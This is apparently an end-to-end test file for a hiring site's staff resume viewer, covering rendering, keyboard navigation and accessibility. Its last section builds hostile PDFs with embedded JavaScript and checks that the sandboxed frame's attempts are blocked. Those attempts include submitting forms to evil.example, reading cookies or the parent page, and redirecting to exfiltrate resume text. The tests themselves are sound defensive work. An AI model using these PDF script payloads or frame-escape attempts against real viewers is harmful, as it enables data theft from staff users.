import type { Page } from 'playwright-core';
import { describe, expect } from 'vitest';
import { MOST_PDF_PAGES, pdfFramePath } from '../../src/contract/staff/pdf-frame.ts';
import { claimStores } from '../environment/app.ts';
import { makeStructuredDocx, makeWordsPdf } from '../factories/files/readable-resumes.ts';
import { readReal } from '../factories/files/resumes.ts';
import { makeApplication, makeContact } from '../factories/rows.ts';
import { submit } from '../factories/submit.ts';
import { expectAccessible } from './axe.ts';
import { apply, drawnFrame, openItem, reader } from './resume-reader.ts';
import { test as base } from './site.ts';
import { enterAs } from './staff-browser.ts';
import { expectFit, PHONE, WIDE } from './well-made.ts';

/** An empty inbox and a signed-in recruiter. */
const test = base.extend<{ memberId: string }>({
  memberId: async ({ page, site }, use) => {
    await site.db.deleteFrom('submissions').execute();
    const { id } = await enterAs(page, site, 'owner');
    await use(id);
  },
});

/** Words in the resume that is shown now: the frame of the one before may still be there for a moment. */
const wordsIn = (page: Page, words: string) => reader(page).frameLocator('iframe').getByText(words);

const sentence = (page: Page) =>
  reader(page).getByRole('heading', { name: 'This resume cannot be shown here' }).locator('xpath=..');

describe('the resume', () => {
  test('is drawn beside the facts, with text to select, pages and zoom', async ({ page, site, memberId }) => {
    const pages = ['First page of Asha', 'Second page of Asha'];
    const reference = await apply(site, 'Asha Rao', makeWordsPdf({ pages }));
    const loaded: string[] = [];
    page.on('request', (request) => loaded.push(new URL(request.url()).pathname));
    await openItem(page, reference);
    expect(loaded.filter((path) => /pdf|reader|reading/i.test(path))).toEqual([]);

    await page.getByRole('button', { name: 'Read', exact: true }).click();
    const frame = await drawnFrame(page);
    expect(await page.getByRole('article', { name: reference }).isVisible()).toBe(true);
    const words = frame.getByText('First page of Asha');
    await words.waitFor();
    const selected = await words.evaluate((element) => {
      getSelection()?.selectAllChildren(element);
      return String(getSelection());
    });
    expect(selected).toBe('First page of Asha');
    // The page is not blank: the letters are black on white.
    const darkPixels = () =>
      frame
        .locator('canvas')
        .first()
        .evaluate((canvas: HTMLCanvasElement) => {
          const copy = document.createElement('canvas');
          copy.width = canvas.width;
          copy.height = canvas.height;
          const context = copy.getContext('2d');
          context?.drawImage(canvas, 0, 0);
          const { data } = context?.getImageData(0, 0, copy.width, copy.height) ?? { data: [] };
          let dark = 0;
          for (let at = 0; at < data.length; at += 4) if ((data[at] ?? 255) < 80) dark += 1;
          return dark;
        });
    await expect.poll(darkPixels).toBeGreaterThan(500);

    const field = reader(page).getByRole('textbox', { name: 'Page' });
    await reader(page).getByText('of 2').waitFor();
    await field.fill('2');
    await field.press('Enter');
    await frame.getByText('Second page of Asha').waitFor();
    await expect.poll(() => field.inputValue()).toBe('2');

    const percent = async () =>
      Number.parseInt(await reader(page).getByLabel('Zoom', { exact: true }).innerText(), 10);
    const fitted = await percent();
    await reader(page)
      .getByRole('button', { name: /^Zoom in/ })
      .click();
    await expect.poll(percent).toBeGreaterThan(fitted);
    await frame.locator('#container').press('0');
    await expect.poll(percent).toBe(fitted);
    await frame.locator('#container').press('-');
    await expect.poll(percent).toBeLessThan(fitted);

    const lines = await site.db
      .selectFrom('staff_audit')
      .select(['member_id', 'subject'])
      .where('action', '=', 'resume read')
      .where('subject', '=', reference)
      .execute();
    expect(lines).toEqual([{ member_id: memberId, subject: reference }]);
  });

  test('gives way to the next applicant’s by key, from within the frame as well', async ({
    page,
    site,
    memberId: _,
  }) => {
    const third = await apply(site, 'Third Applicant', makeStructuredDocx(), 'cv.docx');
    const without = await submit(site, 'application', makeApplication({ FullName: 'Without Resume' }));
    await submit(site, 'contact', makeContact({ fullName: 'No Applicant' }));
    const second = await apply(site, 'Second Applicant', makeWordsPdf({ pages: ['Words of the second'] }));
    const first = await apply(site, 'First Applicant', makeWordsPdf({ pages: ['Words of the first'] }));
    const opened = () => new URL(page.url()).searchParams.get('item');
    const isFocusInReader = () =>
      page.evaluate(() => document.activeElement?.closest('.resume-reader') !== null);

    await openItem(page, first);
    await page.keyboard.press('v');
    await wordsIn(page, 'Words of the first').waitFor();
    await expect.poll(isFocusInReader).toBe(true);
    // The key is pressed in the frame, which has the focus.
    await page.keyboard.press('j');
    await expect.poll(opened).toBe(second);
    await reader(page).getByText('Second Applicant').waitFor();
    await wordsIn(page, 'Words of the second').waitFor();
    await expect.poll(isFocusInReader).toBe(true);
    // What is no application is passed over; one without a resume is not.
    await page.keyboard.press('j');
    await expect.poll(opened).toBe(without);
    await reader(page).getByRole('heading', { name: 'No resume' }).waitFor();
    await page.keyboard.press('j');
    await expect.poll(opened).toBe(third);
    await reader(page).getByRole('heading', { name: 'Ravi Kumar', level: 3 }).waitFor();
    await page.keyboard.press('k');
    await page.keyboard.press('k');
    await expect.poll(opened).toBe(second);
    await wordsIn(page, 'Words of the second').waitFor();
    await page.keyboard.press('Escape');
    await reader(page).waitFor({ state: 'detached' });
    await expect.poll(opened).toBe(second);
    await page.getByRole('button', { name: 'Read', exact: true }).waitFor();
    await expect.poll(() => page.evaluate(() => document.activeElement?.textContent?.trim())).toBe('Read');
  });

  test('is text with headings and lists, if it is a Word document', async ({ page, site, memberId: _ }) => {
    const reference = await apply(site, 'Ravi Kumar', makeStructuredDocx(), 'cv.docx');
    await openItem(page, reference, '&resume=open');
    const text = page.getByRole('region', { name: 'Resume of Ravi Kumar' });
    await text.getByRole('heading', { name: 'Ravi Kumar', level: 3 }).waitFor();
    await text.getByRole('heading', { name: 'अनुभव', level: 4 }).waitFor();
    expect(await text.getByRole('listitem').allInnerTexts()).toEqual(['Gate', 'Night shift']);
    expect(await text.locator('b').allInnerTexts()).toEqual(['Tata <Mills>']);
    expect(await text.getByRole('cell').allInnerTexts()).toEqual(['2019\n2024', 'Pune']);
    expect(await reader(page).locator('iframe').count()).toBe(0);
  });

  test.for(['libreoffice.pdf', 'chromium.pdf'])(
    'of a real program is drawn: %s',
    async (name, { page, site, memberId: _ }) => {
      const reference = await apply(site, 'Real Program', readReal(name));
      await openItem(page, reference, '&resume=open');
      const frame = await drawnFrame(page);
      await frame.locator('.textLayer span').first().waitFor();
    },
  );

  test('that could not be loaded is loaded by another try', async ({ page, site, errors, memberId: _ }) => {
    const reference = await apply(site, 'Asha Rao', makeWordsPdf({ pages: ['Words of Asha'] }));
    errors.expected.push(/Failed to load resource|Failed to fetch/);
    const tryAgain = reader(page).getByRole('button', { name: 'Try again' });
    await page.route('**/reading', (route) => route.abort());
    await openItem(page, reference, '&resume=open');
    await reader(page).getByText('The server cannot be reached').waitFor();
    await page.unroute('**/reading');
    await page.route('**/pdf-frame-pdf.worker*', (route) => route.abort());
    await tryAgain.click();
    await reader(page).getByText('What draws PDFs could not be loaded').waitFor();
    await page.unroute('**/pdf-frame-pdf.worker*');
    await tryAgain.click();
    await wordsIn(page, 'Words of Asha').waitFor();
  });

  test('whose file is lost is said to be missing', async ({ page, site, errors, memberId: _ }) => {
    const reference = await apply(site, 'Asha Rao', makeWordsPdf());
    await site.resumes.deleteAll();
    // As a person does who knows that they are lost: without that the empty store would take no other resume.
    await claimStores(site);
    errors.expected.push(/Failed to load resource/);
    await openItem(page, reference, '&resume=open');
    await reader(page).getByText('This file is missing.').waitFor();
  });

  test('fits a phone and a wide window, and is accessible', async ({ page, site, memberId: _ }) => {
    const pdf = await apply(site, 'Asha Rao', makeWordsPdf());
    const docx = await apply(site, 'Ravi Kumar Nair', makeStructuredDocx(), 'cv.docx');
    for (const size of [PHONE, WIDE]) {
      await page.setViewportSize(size);
      await openItem(page, docx, '&resume=open');
      await reader(page).getByRole('heading', { name: 'अनुभव' }).waitFor();
      await expectFit(page, `a docx at ${size.width} px`);
      await openItem(page, pdf, '&resume=open');
      const frame = await drawnFrame(page);
      await expectFit(page, `a PDF at ${size.width} px`);
      await expectAccessible(frame, `the frame at ${size.width} px`);
      const { width = 0, height = 0 } = (await reader(page).locator('iframe').boundingBox()) ?? {};
      expect(width).toBeGreaterThanOrEqual(size.width === PHONE.width ? PHONE.width : 750);
      expect(height).toBeGreaterThan(600);
      expect(await page.getByRole('article', { name: pdf }).isVisible()).toBe(size === WIDE);
    }
  });
});

describe('a hostile resume', () => {
  const unreadable: [what: string, make: () => Buffer, sentence: RegExp][] = [
    ['encrypted', () => readReal('libreoffice-encrypted.pdf'), /protected/],
    [
      'of ten thousand pages',
      () => makeWordsPdf({ pages: Array.from({ length: 10_000 }, () => 'x') }),
      new RegExp(`more than ${MOST_PDF_PAGES} pages`),
    ],
    ['without objects', () => Buffer.from(`%PDF-1.7\n${'x'.repeat(500)}\n%%EOF\n`), /damaged/],
    ['whose only page is missing', () => makeWordsPdf({ pages: [], claimedPages: 1 }), /damaged/],
  ];

  test.for(unreadable)(
    'that is %s is said to be, and can be downloaded',
    async ([, make, words], { page, site, memberId: _ }) => {
      const reference = await apply(site, 'Hostile', make());
      await openItem(page, reference, '&resume=open');
      await expect.poll(() => sentence(page).innerText()).toMatch(words);
      expect(await sentence(page).getByRole('link', { name: 'Download' }).getAttribute('href')).toBe(
        `/staff/files/resumes/${reference}`,
      );
      await expect.poll(() => reader(page).locator('iframe').count()).toBe(0);
    },
  );

  test('with a broken table of objects is drawn as far as it can be', async ({ page, site, memberId: _ }) => {
    const bytes = Buffer.from(
      makeWordsPdf({ pages: ['Still readable'] })
        .toString('latin1')
        .replace(/startxref\n\d+/, 'startxref\n999999'),
      'latin1',
    );
    const reference = await apply(site, 'Broken', bytes);
    await openItem(page, reference, '&resume=open');
    await (await drawnFrame(page)).getByText('Still readable').waitFor();
  });

  test('runs no script, follows no link and loads nothing', async ({ page, site, memberId: _ }) => {
    const script = '/S/JavaScript/JS(app.alert\\(1\\); this.submitForm\\("https://evil.example/"\\);)';
    const bytes = makeWordsPdf({
      catalogue: `/OpenAction<<${script}>>/AA<</WC<<${script}>>>>/AcroForm<</Fields[100 0 R]/NeedAppearances true>>`,
      objects: [
        `<</Type/Annot/Subtype/Widget/FT/Tx/T(x)/Rect[60 600 300 640]/AA<</F<<${script}>>>>>>`,
        '<</Type/Annot/Subtype/Link/Rect[0 0 595 842]/A<</S/URI/URI(https://evil.example/)>>>>',
      ],
    });
    const reference = await apply(site, 'Scripted', bytes);
    const asked: string[] = [];
    page.on('request', (request) => asked.push(request.url()));
    page.on('dialog', (dialog) => asked.push(`a dialog: ${dialog.message()}`));
    await openItem(page, reference, '&resume=open');
    const frame = await drawnFrame(page);
    await frame.getByText('Twelve years').click();
    expect(page.url()).toContain(reference);
    expect(asked.filter((url) => !url.startsWith(site.origin) && !/^(blob|data):/.test(url))).toEqual([]);
  });

  test('that took over its frame reaches nothing of the staff area', async ({
    page,
    site,
    errors,
    memberId: _,
  }) => {
    const other = await apply(site, 'Next Applicant', makeWordsPdf({ pages: ['Words of the next'] }));
    const reference = await apply(site, 'Hostile', makeWordsPdf());
    await openItem(page, reference, '&resume=open');
    const frame = await drawnFrame(page);
    errors.expected.push(
      /CORS policy|Content Security Policy|Failed to load resource|sandboxed|Unsafe attempt|permission/,
    );
    const asked = page.waitForRequest((request) => request.url().endsWith('/staff/trpc/ownAccount.who?bare'));
    const reached = await frame.evaluate(async () => {
      const attempt = async (what: () => unknown) => {
        try {
          return String(await what());
        } catch (error) {
          return (error as Error).name;
        }
      };
      return {
        origin: location.origin === 'null' ? 'null' : origin,
        cookies: await attempt(() => document.cookie),
        parent: await attempt(() => parent.document.title),
        stored: await attempt(() => localStorage.length),
        staff: await attempt(() => fetch('/staff/trpc/ownAccount.who').then(({ status }) => status)),
        unread: await attempt(() =>
          fetch('/staff/trpc/ownAccount.who?bare', { mode: 'no-cors', credentials: 'include' }).then(
            ({ type }) => type,
          ),
        ),
        window: await attempt(() => open('https://evil.example/')),
        top: await attempt(() => {
          if (top) top.location.href = 'https://evil.example/';
        }),
        elsewhere: await attempt(() => fetch('https://evil.example/').then(({ status }) => status)),
        text: await attempt(() => new Function('return 1')()),
      };
    });
    expect(reached).toEqual({
      origin: 'null',
      cookies: 'SecurityError',
      parent: 'SecurityError',
      stored: 'SecurityError',
      staff: 'TypeError',
      unread: 'TypeError',
      window: 'null',
      top: 'SecurityError',
      elsewhere: 'TypeError',
      text: 'EvalError',
    });
    expect(await (await asked).allHeaders()).not.toHaveProperty('cookie');

    // It cannot press keys that change something, and none while the member is busy elsewhere.
    await reader(page).getByRole('heading', { name: 'Hostile' }).click();
    const pressing = (key: string) =>
      frame.evaluate((pressed) => parent.postMessage({ type: 'key', key: pressed }, '*'), key);
    // Messages of another process arrive later, and the focus must not be there before them.
    await page.evaluate(() => {
      Object.assign(window, { heard: 0 });
      addEventListener('message', () => {
        Object.assign(window, { heard: (window as unknown as { heard: number }).heard + 1 });
      });
    });
    for (const key of ['j', 'Escape', 'a']) await pressing(key);
    await expect
      .poll(() => page.evaluate(() => (window as unknown as { heard: number }).heard))
      .toBeGreaterThanOrEqual(3);
    await reader(page).locator('iframe').focus();
    await pressing('a');
    await pressing('x');
    await pressing('j');
    await expect.poll(() => page.url()).toContain(other);
    await wordsIn(page, 'Words of the next').waitFor();
    const acts = await site.db.selectFrom('staff_audit').select('action').distinct().execute();
    expect(acts.map(({ action }) => action)).not.toContain('assigned');

    // Nor can it lead its frame to an address that would learn what the resume says.
    const next = await drawnFrame(page);
    const left: string[] = [];
    page.on('request', (request) => left.push(request.url()));
    await next.evaluate(() => {
      location.href = 'https://evil.example/?words';
    });
    await expect.poll(() => errors.seen.join()).toMatch(/evil\.example/);
    expect(left.filter((url) => url.includes('evil'))).toEqual([]);
  });
});

test('the frame has no origin outside of the staff area either', async ({ page }) => {
  await page.goto(pdfFramePath);
  expect(await page.evaluate(() => origin)).toBe('null');
  // What is tidied up after a test needs a page with an origin.
  await page.goto('about:blank');
});
